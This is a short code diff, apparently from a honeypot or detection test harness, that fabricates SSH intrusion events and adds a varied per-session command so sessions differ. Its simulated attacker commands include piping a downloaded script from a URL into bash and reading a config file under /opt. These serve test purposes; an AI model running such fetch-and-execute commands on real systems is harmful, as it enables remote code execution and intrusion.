@@ -268,7 +268,9 @@ const ACTS: Readonly<Record<string, (payload: Payload, happening: Happening, mar
         const seen = (event: AnyEventType, values: object) => happening.see(happening.address(`${group} ${n}`), [event, values, 'ssh'])
         seen(events.clientHello, { client_version: `SSH-2.0-${rare}`, hassh: rare })
         seen(...guess(`${rare} of a few`, 'success'))
-        for (const command of [`curl -s ${url} | bash`, `cat /opt/${rare}/ledger.conf`])
+        // What is the same word for word is a script, and no hand.
+        const own = `less ${'kestrel otter plover quail raven siskin'.split(' ')[n % 6]}.txt`
+        for (const command of [`curl -s ${url} | bash`, `cat /opt/${rare}/ledger.conf`, own])
           seen(events.command, { command, mode: 'interactive' })
         seen(events.downloadAttempt, { url, tool: 'curl' })
         seen(events.fileCaptured, { sha256: hash('sha256', rare), size: 4_711, path: '/tmp/run', via: 'scp' })
